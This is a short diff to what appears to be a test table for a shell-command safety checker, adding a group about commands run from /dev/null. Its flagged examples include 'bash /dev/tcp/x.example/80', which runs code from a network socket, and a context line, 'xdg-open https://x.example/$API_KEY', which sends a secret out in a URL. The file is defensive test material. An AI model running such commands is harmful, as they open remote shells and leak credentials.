@@ -97,6 +97,10 @@ HARMLESS_AND_NOT = {
         ("xdg-open docs/index.html", "xdg-open https://x.example/docs", "open README.md"),
         ("xdg-open x.desktop", "xdg-open ./run", "xdg-open https://x.example/$API_KEY"),
     ),
+    "nothing runs out of /dev/null": (
+        ("psql < /dev/null", "mysql shop < /dev/null", "bash /dev/null", "python < /dev/null"),
+        ("psql < gone.sql", "bash /dev/stdin < gone.sh", "bash /dev/tcp/x.example/80"),
+    ),
     "the keyboard": (
         ("xinput list", "xinput --version"),
         ("xinput test 3", "xinput test-xi2 --root"),
